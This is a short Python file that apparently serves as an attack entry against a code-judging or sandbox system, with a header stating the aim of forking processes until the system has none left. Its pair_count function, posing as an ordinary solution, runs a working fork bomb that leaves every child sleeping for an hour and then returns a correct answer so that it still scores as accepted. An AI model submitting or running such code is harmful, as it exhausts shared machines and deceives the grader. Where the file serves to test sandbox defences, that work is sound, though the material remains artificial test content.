# /// attack
# aim = "Every process forks until the system has no more; all of them stay."
# outcome = ["AC"]
# naive = "hung"
# ///

import os
import time


def count_slowly(numbers, target):
    n = len(numbers)
    return sum(numbers[i] + numbers[j] == target for i in range(n) for j in range(i + 1, n))


def pair_count(numbers, target):
    forked = False
    try:
        while True:
            os.fork()
            forked = True
    except (OSError, AttributeError):
        pass
    if forked:
        time.sleep(3600)
    return count_slowly(numbers, target)
